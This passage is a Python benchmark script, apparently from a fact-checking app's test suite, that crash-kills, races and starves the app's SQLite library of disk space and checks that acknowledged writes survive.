"""The data-safety suites, end to end: `python -m tests.benchmarks.safety_suites [--quick]`.

Issue 14's closing figures, measured against the real app: its command line (`python -m app`) in
a process of its own for everything a user runs, and its services (app/services) in child
processes for the writers that get killed or race each other. Six suites:

1. crash: a writer (status changes and notes, each printed once its call returned) is SIGKILLed
   at random moments; then every acknowledged write must be in the file. Also kills during the
   migration of an old library (schema 0006, downgraded with Alembic), which must open afterwards
   with all its rows.
2. two programs: two writers on one library at once; writes refused "busy", and lost.
3. full disk: memo, backup, exports and an import under RLIMIT_FSIZE, then a library on a real
   2 MB tmpfs written until it is full (when mounting is permitted).
4. permissions: a read-only data folder (chmod without root's override, chattr +i, a read-only
   bind mount, a read-only tmpfs).
5. hostile input: the pages of ../shared/eval/news/html and pages built here to hurt, each
   imported by `claimdesk import` in its own process (under strace where it works, to see any
   socket), then the memo of each that imported.
6. corruption: a library damaged in several ways, then opened by `claimdesk list`.

It measures and prints one table; it asserts nothing about time. It exits 1 if a committed write
was lost, or a hostile file opened a network socket, crashed or hung the process (killed after
60 s; 30 s with --quick), or had a local file's text put into the library. Peak memory is each
process's own (see LAUNCHER: Linux carries a parent's peak into ru_maxrss). Independent cases run
two at a time. `--per-file` prints each hostile file's run, `--only NAME` runs one suite, `--keep`
keeps the working folder. Needs root for the tmpfs, chattr and bind-mount cases (skipped if not).
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import json
import os
import random
import re
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SHARED = ROOT.parent / "shared"
NEWS_HTML = SHARED / "eval" / "news" / "html"
PY = sys.executable
MB = 2**20
HANG_S = 120.0  # a command still running after this long is stuck: killed and counted as a crash

# Every measured command runs under this small launcher. It reports the command's own peak RSS
# (os.wait4 on it): measured straight from this script, ru_maxrss would start at this script's own
# peak, since Linux copies a parent's high-water mark into a forked child and keeps it across exec.
# Past its time limit it reads the peak (VmHWM) of every process of its group, then kills them.
LAUNCHER = """
import json, os, signal, subprocess, sys, time
report, limit, command = sys.argv[1], float(sys.argv[2]), sys.argv[3:]
started = time.perf_counter()
child = subprocess.Popen(command)
timed_out, peak_kb = False, 0
while True:
    pid, status, usage = os.wait4(child.pid, os.WNOHANG)
    if pid:
        break
    if not timed_out and time.perf_counter() - started > limit:
        timed_out = True
        for entry in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{entry}/stat") as stat:
                    group = int(stat.read().rsplit(")", 1)[1].split()[2])
                if int(entry) == os.getpid() or group != os.getpgrp():
                    continue
                with open(f"/proc/{entry}/status") as info:
                    peak_kb = max(peak_kb, int(info.read().split("VmHWM:")[1].split()[0]))
                os.kill(int(entry), signal.SIGKILL)
            except (OSError, IndexError, ValueError):
                pass
    time.sleep(0.005)
seconds = time.perf_counter() - started
with open(report, "w") as out:
    json.dump({"code": os.waitstatus_to_exitcode(status), "kb": max(peak_kb, usage.ru_maxrss),
               "seconds": seconds, "timed_out": timed_out}, out)
"""

ARTICLE = """Ferry strike halts island traffic

Ferries to the northern islands stopped on Tuesday after crews walked out, the port authority said.

The union said 340 crew members joined the strike over a pay offer of 2.5 per cent.

According to the transport ministry, about 12,000 passengers a day use the three routes.

The operator reportedly offered a bonus of 600 euros, which the union called too little.

Shops on the largest island could run short of fresh food by Friday, the mayor warned.

The weather stayed mild all week.
"""

SECOND_ARTICLE = """Library opening hours cut

The city council said on Monday that 14 branch libraries will close on Saturdays from March.

A council spokesperson said the change would save 1.2 million pounds a year.

Readers' groups claimed that 30,000 people use the branches each weekend.

The council could not confirm how many staff would be affected.
"""


# ---------------------------------------------------------------------------------------------
# Running commands and reading their results


@dataclass
class Ran:
    """One finished command: its exit code, output, wall time, own peak RSS and socket calls."""

    label: str
    code: int
    out: str
    err: str
    seconds: float
    peak_mb: float
    timed_out: bool
    trace: str | None = None  # strace's log, when traced

    @property
    def crashed(self) -> bool:
        """A hang, a signal, a traceback or the CLI's "internal error" (a bug, by its own account)."""
        return (
            self.timed_out
            or self.code not in (0, 2)
            or "Traceback" in self.err
            or "internal error" in self.err
        )

    @property
    def error_lines(self) -> list[str]:
        return [line for line in self.err.splitlines() if line.strip() and "warning:" not in line]

    @property
    def clear_refusal(self) -> bool:
        lines = self.error_lines
        return self.code == 2 and not self.crashed and len(lines) == 1 and lines[0].startswith("claimdesk: ")

    @property
    def outcome(self) -> str:
        if self.timed_out:
            return "HANG"
        if self.crashed:
            return "CRASH"
        if self.code == 0:
            return "ok"
        return "refused" if self.clear_refusal else "UNCLEAR"

    def first_line(self, width: int = 110) -> str:
        """The message a user reads (the last line of a traceback), paths under the work folder shortened."""
        lines = [line for line in self.err.splitlines() if line.strip()]
        if "Traceback" in self.err:
            lines = lines[-1:]
        elif self.error_lines:
            lines = self.error_lines
        text = shorten(lines[0]) if lines else ""
        return text if len(text) <= width else text[: width - 1] + "…"


WORK: list[Path] = []  # the run's working folder, written as $W in messages


def shorten(text: str) -> str:
    return text.replace(str(WORK[0]), "$W") if WORK else text


def environment(home: Path, **extra: str) -> dict[str, str]:
    env = {
        **os.environ,
        "CLAIMDESK_HOME": str(home),
        "CLAIMDESK_REVIEWER": "Safety Suite",
        "XDG_CONFIG_HOME": str(home.parent / f"{home.name}-config"),
        "QT_QPA_PLATFORM": "offscreen",
        "QT_LOGGING_RULES": "qt.qpa.*=false",
        "PYTHONDONTWRITEBYTECODE": "1",
        "PYTHONPATH": str(ROOT),
    }
    env.update(extra)
    return env


def run(
    label: str,
    command: Sequence[str],
    env: dict[str, str],
    *,
    timeout: float = HANG_S,
    preexec: Callable[[], None] | None = None,
    traced: bool = False,
) -> Ran:
    """Run `command` under the launcher (and strace when `traced`); never raises for its failure.

    A launcher killed well before its limit was killed from outside this script (another program
    on a shared machine): that run is not a measurement of the app, so it runs once more.
    """
    ran, reported = _run_once(label, command, env, timeout, preexec, traced)
    if not reported and ran.seconds < timeout:
        OUTSIDE_KILLS.append(label)
        ran, reported = _run_once(label, command, env, timeout, preexec, traced)
    return ran


OUTSIDE_KILLS: list[str] = []


def _run_once(
    label: str,
    command: Sequence[str],
    env: dict[str, str],
    timeout: float,
    preexec: Callable[[], None] | None,
    traced: bool,
) -> tuple[Ran, bool]:
    with tempfile.TemporaryDirectory(prefix="safety-run-") as scratch:
        report, trace_log = Path(scratch) / "report.json", Path(scratch) / "strace.txt"
        inner = [*STRACE, "-o", str(trace_log), *command] if traced else list(command)
        with open(Path(scratch) / "out", "w+b") as out, open(Path(scratch) / "err", "w+b") as err:
            started = time.perf_counter()
            launcher = subprocess.Popen(
                [PY, "-c", LAUNCHER, str(report), str(timeout), *inner],
                stdin=subprocess.DEVNULL,
                stdout=out,
                stderr=err,
                env=env,
                cwd=ROOT,
                preexec_fn=preexec,
                start_new_session=True,  # its own process group, which it kills past the limit
            )
            try:
                launcher.wait(timeout=timeout + 30)
            except subprocess.TimeoutExpired:  # the launcher itself is stuck: the whole group goes
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(launcher.pid, signal.SIGKILL)
                launcher.wait()
            seconds = time.perf_counter() - started
            out.seek(0)
            err.seek(0)
            stdout = out.read().decode("utf-8", "replace")
            stderr = err.read().decode("utf-8", "replace")
        try:
            result = json.loads(report.read_text())
            code, peak = int(result["code"]), float(result["kb"]) / 1024
            seconds, timed_out, reported = float(result["seconds"]), bool(result["timed_out"]), True
        except (OSError, ValueError, KeyError):  # the launcher itself was killed
            code, peak, timed_out, reported = -9, 0.0, seconds >= timeout, False
        trace = trace_log.read_text(errors="replace") if traced and trace_log.exists() else None
    return Ran(label, code, stdout, stderr, seconds, peak, timed_out, trace), reported


def claimdesk(label: str, db: Path, *args: str, env: dict[str, str], **options: object) -> Ran:
    """`claimdesk --db DB ARGS` as a user runs it."""
    return run(label, [PY, "-m", "app", "--db", str(db), *args], env, **options)  # type: ignore[arg-type]


def file_size_limit(limit: int) -> Callable[[], None]:
    """`ulimit -f` for a child: a write past `limit` bytes fails with EFBIG, like a full disk."""

    def apply() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return apply


# strace: only the calls that make or use a socket, filtered in the kernel (cheap).
STRACE = ["strace", "-f", "-qq", "--seccomp-bpf", "-e", "trace=socket,connect,bind,sendto,sendmsg"]
_SOCKET = re.compile(r"socket\((AF_\w+)")
_FAMILY = re.compile(r"sa_family=(AF_\w+)")
_PROBE = re.compile(r'bind\(\d+, \{sa_family=AF_INET6, sin6_port=htons\(0\).*"::1"')


@dataclass(frozen=True)
class Sockets:
    network: int  # sockets of the internet families (and name lookups) beyond urllib3's probe, plus connects
    local: int  # connects to AF_UNIX sockets (local IPC such as D-Bus)
    probes: int  # urllib3's import-time IPv6 check: socket(AF_INET6) bound to ::1 port 0, never used

    def describe(self) -> str:
        return f"net {self.network}, unix {self.local}, ::1 probes {self.probes}"


def sockets_in(trace: str) -> Sockets:
    created = connects = local = probes = 0
    for line in trace.splitlines():
        if "resumed>" in line:
            continue
        if match := _SOCKET.search(line):
            if match.group(1) != "AF_UNIX":
                created += 1
        elif _PROBE.search(line):
            probes += 1
        elif re.search(r"\b(connect|sendto|sendmsg)\(", line) and (family := _FAMILY.search(line)):
            if family.group(1) == "AF_UNIX":
                local += 1
            else:
                connects += 1
    return Sockets(max(0, created - probes) + connects, local, probes)


def strace_works() -> bool:
    if shutil.which("strace") is None:
        return False
    done = subprocess.run([*STRACE, "-o", os.devnull, "true"], capture_output=True)
    return done.returncode == 0


# ---------------------------------------------------------------------------------------------
# Libraries and their contents


def write_article(folder: Path, name: str = "ferries.txt", text: str = ARTICLE) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def build_library(path: Path, folder: Path, *, notes: int = 3) -> list[int]:
    """A library with two articles, a few statuses and notes (through the services); its claim ids."""
    from app.services.articles import import_path, load_article
    from app.services.claims import add_note, set_status
    from app.storage.database import open_database

    path.parent.mkdir(parents=True, exist_ok=True)
    db = open_database(path)
    try:
        first = import_path(db, write_article(folder)).article_id
        import_path(db, write_article(folder, "library.txt", SECOND_ARTICLE))
        claims = [claim.id for claim in load_article(db, first).claims]
        set_status(db, claims[0], "in_progress")
        set_status(db, claims[1], "verified", reason="the ministry's figures")
        for n in range(notes):
            add_note(db, claims[n % len(claims)], f"Called the port authority, call {n}.")
    finally:
        db.close()
    return claims


TABLES = ("article", "claim", "note", "status_change", "evidence")


def contents(path: Path) -> dict[str, object] | None:
    """What a library holds (row counts, integrity, a digest of texts); None if it cannot be read."""
    try:
        connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    except sqlite3.Error:
        return None
    try:
        counts: dict[str, object] = {
            table: connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0] for table in TABLES
        }
        counts["integrity"] = connection.execute("PRAGMA integrity_check").fetchone()[0]
        texts = hashlib.sha256()
        for title, text in connection.execute("SELECT title, text FROM article ORDER BY id"):
            texts.update(f"{title}\x00{text}\x00".encode("utf-8", "surrogatepass"))
        counts["texts"] = texts.hexdigest()
        return counts
    except sqlite3.Error:
        return None
    finally:
        connection.close()


def lost_rows(before: dict[str, object] | None, after: dict[str, object] | None) -> int:
    """Rows that were there before and are gone (or the whole library, if it no longer reads)."""
    if before is None:
        return 0
    if after is None:
        return sum(int(before[t]) for t in TABLES)  # type: ignore[call-overload]
    return sum(max(0, int(before[t]) - int(after[t])) for t in TABLES)  # type: ignore[call-overload]


def partial_files(*folders: Path) -> list[Path]:
    found: list[Path] = []
    for folder in folders:
        if folder.is_dir():
            found += [p for p in folder.rglob("*") if p.name.endswith(".partial")]
    return found


# ---------------------------------------------------------------------------------------------
# The table


@dataclass
class Row:
    suite: str
    tried: int = 0
    ok: int = 0
    refused: int = 0
    lost: int = 0
    crashed: int = 0
    worst_s: float = 0.0
    worst_mb: float = 0.0
    unit: str = ""
    details: list[str] = field(default_factory=list)
    fatal: bool = False  # a lost write or a hostile file's socket or crash: the script exits 1

    def saw(self, ran: Ran) -> None:
        self.worst_s = max(self.worst_s, ran.seconds)
        self.worst_mb = max(self.worst_mb, ran.peak_mb)

    def note(self, line: str) -> None:
        self.details.append(line)


def print_table(rows: list[Row]) -> None:
    head = (
        f"{'suite':<34} {'tried':>6} {'ok':>6} {'refused':>8} {'lost/crashed':>13} "
        f"{'worst s':>8} {'peak MB':>8}"
    )
    print(head)
    print("-" * len(head))
    for row in rows:
        print(
            f"{row.suite:<34} {row.tried:>6} {row.ok:>6} {row.refused:>8} "
            f"{f'{row.lost}/{row.crashed}':>13} {row.worst_s:>8.2f} "
            + (f"{row.worst_mb:>8.0f}" if row.worst_mb else f"{'-':>8}")
        )
    print()
    for row in rows:
        if row.unit or row.details:
            print(f"{row.suite}: {row.unit}")
            for line in row.details:
                print(f"    {line}")


# ---------------------------------------------------------------------------------------------
# Children: writers that run the services, killed or raced by the parent


def _say(line: str) -> None:
    print(line, flush=True)


def child_crash(path: str, claim_ids: str, round_no: str) -> None:
    """Status changes and notes in a loop; each is printed as tried, then once its call returned."""
    from app.services.claims import add_note, load_claim, set_status
    from app.services.safety import open_checked

    _say("opening")
    db = open_checked(Path(path))
    _say("ready")
    claims = [int(c) for c in claim_ids.split(",")]
    current = load_claim(db, claims[0]).status
    n = 0
    while True:
        n += 1
        tag = f"r{round_no}-{n}"
        current = "false" if current == "verified" else "verified"
        _say(f"try status {tag}")
        set_status(db, claims[0], current, reason=tag)
        _say(f"ack status {tag}")
        _say(f"try note {tag}")
        add_note(db, claims[n % len(claims)], f"note {tag}")
        _say(f"ack note {tag}")


def child_migrate(path: str) -> None:
    from app.storage.database import open_database

    _say("opening")
    started = time.perf_counter()
    open_database(Path(path)).close()
    _say(f"opened {time.perf_counter() - started:.3f}")


def child_writer(path: str, name: str, claim_id: str, count: str, go: str) -> None:
    """One of two programs: `count` status changes on its own claim, once the file `go` exists."""
    from app.errors import StorageError
    from app.services.claims import load_claim, set_status
    from app.storage.database import open_database

    db = open_database(Path(path))
    claim = int(claim_id)
    current = load_claim(db, claim).status
    _say("ready")
    while not os.path.exists(go):
        time.sleep(0.001)
    worst = 0.0
    for n in range(int(count)):
        tag = f"{name}-{n}"
        current = "false" if current == "verified" else "verified"
        started = time.perf_counter()
        try:
            set_status(db, claim, current, reason=tag)
        except StorageError as error:
            current = "false" if current == "verified" else "verified"  # it was not changed
            _say(f"{'busy' if 'busy' in str(error) else 'error'} {tag} {error}")
            continue
        finally:
            worst = max(worst, time.perf_counter() - started)
        _say(f"ack {tag}")
    _say(f"worst_ms {1000 * worst:.0f}")
    db.close()


def child_fill(path: str, claim_id: str) -> None:
    """Notes of 2 KB until the disk refuses three in a row (or 5,000 were written)."""
    from app.errors import ClaimdeskError
    from app.services.claims import add_note
    from app.storage.database import open_database

    db = open_database(Path(path))
    refused_in_a_row = 0
    for n in range(5000):
        tag = f"fill-{n}"
        _say(f"try {tag}")
        try:
            add_note(db, int(claim_id), f"{tag} " + "The quay was measured again. " * 70)
        except ClaimdeskError as error:
            _say(f"refused {tag} {error}")
            refused_in_a_row += 1
            if refused_in_a_row == 3:
                break
            continue
        refused_in_a_row = 0
        _say(f"ack {tag}")
    db.close()


def child_command(mode: str, args: list[str]) -> int:
    children: dict[str, Callable[..., None]] = {
        "crash": child_crash,
        "migrate": child_migrate,
        "writer": child_writer,
        "fill": child_fill,
    }
    children[mode](*args)
    return 0


def spawn_child(mode: str, args: Sequence[str], env: dict[str, str], log: Path) -> subprocess.Popen[bytes]:
    with log.open("wb") as out:
        return subprocess.Popen(
            [PY, "-m", "tests.benchmarks.safety_suites", "--child", mode, *args],
            stdin=subprocess.DEVNULL,
            stdout=out,
            stderr=subprocess.STDOUT,
            env=env,
            cwd=ROOT,
        )


def log_lines(log: Path) -> list[str]:
    return log.read_text(errors="replace").splitlines()


def wait_for(log: Path, word: str, timeout: float = 60.0) -> float:
    started = time.perf_counter()
    while time.perf_counter() - started < timeout:
        if word in log_lines(log):
            return time.perf_counter() - started
        time.sleep(0.005)
    raise RuntimeError(f"the child never said {word!r}: {log.read_text()[-2000:]}")


# ---------------------------------------------------------------------------------------------
# 1. Crash


@dataclass
class Lane:
    """One library killed over and over; two lanes run side by side to halve the wall time."""

    attempted: int = 0
    acked: dict[str, set[str]] = field(default_factory=lambda: {"status": set(), "note": set()})
    during_open: int = 0
    mid_write: int = 0
    lost: set[str] = field(default_factory=set)
    unreadable: bool = False
    open_s: float = 0.0
    reopened: Ran | None = None


def crash_lane(work: Path, lane_no: int, rounds: int, seed: int, claims: list[int]) -> Lane:
    rng = random.Random(seed)
    lane = Lane()
    folder = work / "crash" / f"lane-{lane_no}"
    path = folder / "library.sqlite3"
    env = environment(work / "crash-home" / str(lane_no))
    ids = ",".join(map(str, claims[:4]))
    for round_no in range(rounds):
        log = folder / f"round-{round_no}.log"
        started = time.perf_counter()
        child = spawn_child("crash", [str(path), ids, f"{lane_no}.{round_no}"], env, log)
        if round_no == 0:  # calibrate: how long the child takes to open the library
            lane.open_s = wait_for(log, "ready")
            time.sleep(0.2)
        else:  # anywhere from the middle of opening to a second of writing
            delay = rng.uniform(0.5 * lane.open_s, lane.open_s + 1.0)
            time.sleep(max(0.0, delay - (time.perf_counter() - started)))
        child.send_signal(signal.SIGKILL)
        child.wait()
        lines = log_lines(log)
        if "ready" not in lines:
            lane.during_open += 1
        elif lines[-1].startswith("try"):
            lane.mid_write += 1
        for line in lines:
            parts = line.split()
            if len(parts) == 3 and parts[0] == "try":
                lane.attempted += 1
            elif len(parts) == 3 and parts[0] == "ack":
                lane.acked[parts[1]].add(parts[2])
        found = stored_writes(path)
        if found is None:
            lane.unreadable = True
            break
        lane.lost |= (lane.acked["status"] - found["status"]) | (lane.acked["note"] - found["note"])
    lane.reopened = claimdesk("reopen", path, "list", env=env)
    return lane


def suite_crash(work: Path, rounds: int, rng: random.Random) -> Row:
    row = Row("crash: SIGKILL a writer", unit="writes (status changes and notes); worst = reopening after")
    seeds = [rng.randrange(2**32) for _ in range(2)]
    claims = [  # built one after the other: Alembic's upgrade is not thread-safe
        build_library(work / "crash" / f"lane-{n}" / "library.sqlite3", work / "crash-files" / str(n))
        for n in (0, 1)
    ]
    with ThreadPoolExecutor(max_workers=2) as pool:
        lanes = list(
            pool.map(
                lambda n: crash_lane(work, n, rounds // 2 + n * (rounds % 2), seeds[n], claims[n]), (0, 1)
            )
        )
    acked = sum(len(lane.acked["status"]) + len(lane.acked["note"]) for lane in lanes)
    row.tried = sum(lane.attempted for lane in lanes)
    row.lost = sum(len(lane.lost) for lane in lanes) + sum(
        len(lane.acked["status"]) + len(lane.acked["note"]) for lane in lanes if lane.unreadable
    )
    row.ok = acked - row.lost
    for lane in lanes:
        assert lane.reopened is not None
        row.saw(lane.reopened)
        if lane.reopened.code != 0 or lane.unreadable:
            row.crashed += 1
            row.note(f"a library did not read or reopen after the kills: {lane.reopened.first_line()}")
        if lane.lost:
            row.note(f"lost: {sorted(lane.lost)[:5]}")
    row.fatal = row.lost > 0 or row.crashed > 0
    row.note(
        f"{rounds} kills on two libraries side by side ({sum(lane.during_open for lane in lanes)} while "
        f"opening, {sum(lane.mid_write for lane in lanes)} between a write's 'try' and its 'ack'); "
        f"{row.tried} writes attempted, {acked} acknowledged, {row.lost} of those lost; SQLite's "
        f"integrity_check ok after every kill: {not any(lane.unreadable for lane in lanes)}; "
        f"`claimdesk list` reopened both: exit {[lane.reopened.code for lane in lanes if lane.reopened]}"
    )
    return row


def stored_writes(path: Path) -> dict[str, set[str]] | None:
    try:
        with contextlib.closing(sqlite3.connect(path)) as check:
            if check.execute("PRAGMA integrity_check").fetchall() != [("ok",)]:
                return None
            reasons = {r for (r,) in check.execute("SELECT reason FROM status_change")}
            bodies = {b.removeprefix("note ") for (b,) in check.execute("SELECT body FROM note")}
    except sqlite3.Error:
        return None
    return {"status": reasons, "note": bodies}


def old_library(work: Path, notes: int) -> tuple[Path, dict[str, object]]:
    """A library at schema 0006 with `notes` notes: built at head, then downgraded with Alembic."""
    import uuid

    from alembic import command
    from sqlalchemy import create_engine

    from tests.helpers import alembic_config

    path = work / "migrate" / "old-0006.sqlite3"
    claims = build_library(path, work / "migrate-files")
    with contextlib.closing(sqlite3.connect(path)) as raw, raw:
        stamp = "2025-01-01 09:00:00.000000"
        raw.executemany(
            "INSERT INTO note (uid, claim_id, body, author, created_at, updated_at)"
            " VALUES (?, ?, ?, ?, ?, ?)",
            [
                (
                    str(uuid.uuid4()),
                    claims[n % len(claims)],
                    f"Old note {n}: " + "checked the log. " * 12,
                    "Archive",
                    stamp,
                    stamp,
                )
                for n in range(notes)
            ],
        )
    engine = create_engine(f"sqlite:///{path}")
    with engine.begin() as connection:
        command.downgrade(alembic_config(connection), "0006_article_versions")
    engine.dispose()
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        connection.execute("PRAGMA journal_mode=DELETE")
    before = contents(path)
    assert before is not None
    return path, before


def suite_migration_crash(work: Path, rounds: int, rng: random.Random, notes: int) -> Row:
    from app.storage.migrate import head_revision

    row = Row("crash: SIGKILL during migration", unit="kills while a 0006 library opens and migrates")
    template, before = old_library(work, notes)
    env = environment(work / "migrate-home")
    migrate = [PY, "-m", "tests.benchmarks.safety_suites", "--child", "migrate"]
    # How long open_database takes on this library (backup, upgrade), to spread the kills over it.
    probe = work / "migrate" / "probe" / "library.sqlite3"
    probe.parent.mkdir(parents=True)
    shutil.copy(template, probe)
    timed = run("open", [*migrate, str(probe)], env)
    open_s = float(timed.out.split()[-1]) if timed.code == 0 else 1.0
    delays = [rng.uniform(0.0, 1.1 * open_s) for _ in range(rounds)]

    def one(round_no: int) -> tuple[str, Ran, dict[str, object] | None, str | None]:
        folder = work / "migrate" / f"round-{round_no}"
        folder.mkdir()
        path = folder / "library.sqlite3"
        shutil.copy(template, path)
        log = folder / "child.log"
        child = spawn_child("migrate", [str(path)], env, log)
        wait_for(log, "opening")
        time.sleep(delays[round_no])
        child.send_signal(signal.SIGKILL)
        child.wait()
        if (
            any(line.startswith("opened") for line in log_lines(log))
            or schema_revision(path) == head_revision()
        ):
            phase = "after"
        elif any((folder / "backups").glob("*before-*.sqlite3")):
            phase = "mid-upgrade"
        else:
            phase = "before the backup was whole"
        reopened = run("reopen", [*migrate, str(path)], env)
        return phase, reopened, contents(path), schema_revision(path)

    with ThreadPoolExecutor(max_workers=2) as pool:
        results = list(pool.map(one, range(rounds)))
    phases: dict[str, int] = {}
    for round_no, (phase, reopened, now, revision) in enumerate(results):
        phases[phase] = phases.get(phase, 0) + 1
        row.saw(reopened)
        lost = lost_rows(before, now)
        row.lost += lost
        if reopened.code != 0 or now is None or now["integrity"] != "ok" or revision != head_revision():
            row.crashed += 1
            row.note(f"round {round_no}: did not open whole after the kill: {reopened.first_line()}")
        elif lost == 0:
            row.ok += 1
    leftovers = partial_files(work / "migrate")
    row.tried = rounds
    row.fatal = row.lost > 0 or row.crashed > 0
    row.note(
        f"{rounds} kills within a {open_s:.2f} s open_database of a 0006 library of {before['note']} notes "
        f"(pre-migration backup, then the upgrade): "
        + ", ".join(f"{count} {phase}" for phase, count in sorted(phases.items()))
        + f"; {row.ok} opened afterwards at {head_revision()} with every row; rows lost {row.lost}; "
        f".partial files the kills left (removed at a later start once an hour old): {len(leftovers)}"
    )
    return row


def schema_revision(path: Path) -> str | None:
    try:
        with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as connection:
            found = connection.execute("SELECT version_num FROM alembic_version").fetchone()
    except sqlite3.Error:
        return None
    return str(found[0]) if found else None


# ---------------------------------------------------------------------------------------------
# 2. Two programs


def suite_two_programs(work: Path, writes: int) -> Row:
    row = Row("two programs, one library", unit=f"status changes ({writes} by each of two processes at once)")
    folder = work / "two"
    path = folder / "library.sqlite3"
    claims = build_library(path, work / "two-files")
    env = environment(work / "two-home")
    go = folder / "go"
    logs = {name: folder / f"{name}.log" for name in ("A", "B")}
    started = time.perf_counter()
    writers = {
        name: spawn_child("writer", [str(path), name, str(claims[i + 2]), str(writes), str(go)], env, log)
        for i, (name, log) in enumerate(logs.items())
    }
    for log in logs.values():
        wait_for(log, "ready")
    ready = time.perf_counter()
    go.touch()
    for child in writers.values():
        child.wait(timeout=HANG_S)
    elapsed = time.perf_counter() - ready
    acked: set[str] = set()
    busy = errors = 0
    worst_ms = []
    other: list[str] = []
    for name, log in logs.items():
        for line in log_lines(log):
            word, _, rest = line.partition(" ")
            if word == "ack":
                acked.add(rest)
            elif word == "busy":
                busy += 1
            elif word == "error":
                errors += 1
                other.append(rest)
            elif word == "worst_ms":
                worst_ms.append(float(rest))
            elif word not in ("ready",):
                other.append(f"{name}: {line}")
        if writers[name].returncode != 0:
            row.crashed += 1
            other.append(f"{name} exited {writers[name].returncode}")
    found = stored_writes(path)
    lost = len(acked - found["status"]) if found is not None else len(acked)
    row.tried, row.ok, row.refused, row.lost = 2 * writes, len(acked), busy + errors, lost
    row.worst_s = max(worst_ms, default=0.0) / 1000
    row.fatal = lost > 0
    row.note(
        f"{len(acked)} committed, {busy} refused 'busy' ({100 * busy / (2 * writes):.1f}%), {errors} other "
        f"errors, {lost} lost; both done in {elapsed:.2f} s (start-up {ready - started:.2f} s); "
        f"slowest single write {max(worst_ms, default=0):.0f} ms (worst s = that)"
    )
    for line in other[:3]:
        row.note(line)
    return row


# ---------------------------------------------------------------------------------------------
# 3. Full disk


def big_article(folder: Path, sentences: int, subject: str = "schools") -> Path:
    text = f"A report on {subject}\n\n" + "\n\n".join(
        f"The ministry said {n} {subject} reopened in district {n % 40} on day {n % 30}."
        for n in range(sentences)
    )
    return write_article(folder, f"{subject}.txt", text + "\n")


def pdf_reads(path: Path) -> bool:
    from pypdf import PdfReader

    try:
        return len(PdfReader(path).pages) > 0
    except Exception:
        return False


def suite_full_disk_rlimit(work: Path, quick: bool) -> Row:
    row = Row("full disk: RLIMIT_FSIZE", unit="commands run with a file-size limit below what they write")
    folder = work / "fsize"
    path = folder / "library.sqlite3"
    build_library(path, work / "fsize-files")
    env = environment(work / "fsize-home")
    outputs = work / "fsize-out"
    outputs.mkdir()
    # A 400-claim article: its exports (60 KB and more) outgrow a limit that still lets the
    # database open (its -shm is 32 KB), so the limit bites the export itself.
    imported = claimdesk("import", path, "import", str(big_article(work / "fsize-files", 400)), env=env)
    article = imported.out.strip() or "1"
    whole = {fmt: outputs / f"whole.{fmt}" for fmt in ("pdf", "markdown", "csv")}
    made = claimdesk(
        "whole", path, "export", article, *(f"--{fmt}={out}" for fmt, out in whole.items()), env=env
    )
    if made.code != 0:
        row.note(f"could not make the whole exports: {made.first_line()}")
    db_size = path.stat().st_size
    largest = max(p.stat().st_size for p in folder.rglob("*") if p.is_file())
    big = big_article(work / "fsize-files", 2000 if quick else 8000, "clinics")
    cases: list[tuple[str, list[str], int, Path | None]] = [
        (
            f"import a {big.stat().st_size // 1024} KB article",
            ["import", str(big)],
            largest + 64 * 1024,
            None,
        ),
        ("backup", ["backup"], db_size // 2, None),
    ]
    for fmt, made_file in whole.items():
        if made_file.exists():
            cut = outputs / f"cut.{fmt}"
            cases.append((f"export --{fmt}", ["export", article, f"--{fmt}", str(cut)], 40 * 1024, cut))
    before = contents(path)
    partial_count = 0
    for label, args, limit, out in cases:
        ran = claimdesk(label, path, *args, env=env, preexec=file_size_limit(limit))
        row.saw(ran)
        row.tried += 1
        left = partial_files(folder, outputs)
        truncated = out is not None and out.exists() and ran.code != 0
        broken = out is not None and out.exists() and out.suffix == ".pdf" and not pdf_reads(out)
        partial_count += len(left) + int(truncated or broken)
        if ran.crashed:
            row.crashed += 1
        elif ran.clear_refusal:
            row.refused += 1
        elif ran.code == 0:
            row.ok += 1
        for leftover in left:
            leftover.unlink()
        written = ""
        if out is not None and out.exists() and ran.code == 0:
            written = f"; exit 0 and {out.stat().st_size // 1024} KB written"
        row.note(
            f"{label} (limit {limit // 1024} KB): {ran.outcome}, exit {ran.code}, {ran.seconds:.2f} s; "
            f"{ran.first_line(90) or 'no message'}"
            + (f"; {len(left)} .partial left" if left else "")
            + ("; a partial output was left" if truncated else "")
            + written
        )
    after = contents(path)
    row.lost = lost_rows(before, after)
    row.fatal = row.lost > 0
    row.note(
        f"files left partial or truncated: {partial_count}; rows lost: {row.lost}; "
        f"integrity after: {after['integrity'] if after else 'unreadable'}"
    )
    return row


@contextlib.contextmanager
def mounted_tmpfs(where: Path, size: str, *, read_only: bool = False) -> Iterator[bool]:
    """A tmpfs at `where` (True) if mounting is permitted here; False otherwise. Unmounted after."""
    where.mkdir(parents=True, exist_ok=True)
    options = f"size={size},mode=0700"
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)], capture_output=True)
    if done.returncode != 0:
        yield False
        return
    try:
        yield True
    finally:
        subprocess.run(["umount", "-l", str(where)], capture_output=True)


def suite_full_disk_tmpfs(work: Path, quick: bool) -> Row:
    row = Row(
        "full disk: 2 MB tmpfs", unit="writes and commands on a library on a 2 MB tmpfs filled by notes"
    )
    disk = work / "tmpfs"
    with mounted_tmpfs(disk, "2m") as mounted:
        if not mounted:
            row.note("skipped: mounting a tmpfs is not permitted here")
            return row
        path = disk / "claimdesk.sqlite3"
        env = environment(disk)
        article = write_article(work / "tmpfs-files")
        first = claimdesk("import", path, "import", str(article), env=env)
        row.saw(first)
        if first.code != 0:
            row.note(f"the first import failed on the empty tmpfs: {first.first_line()}")
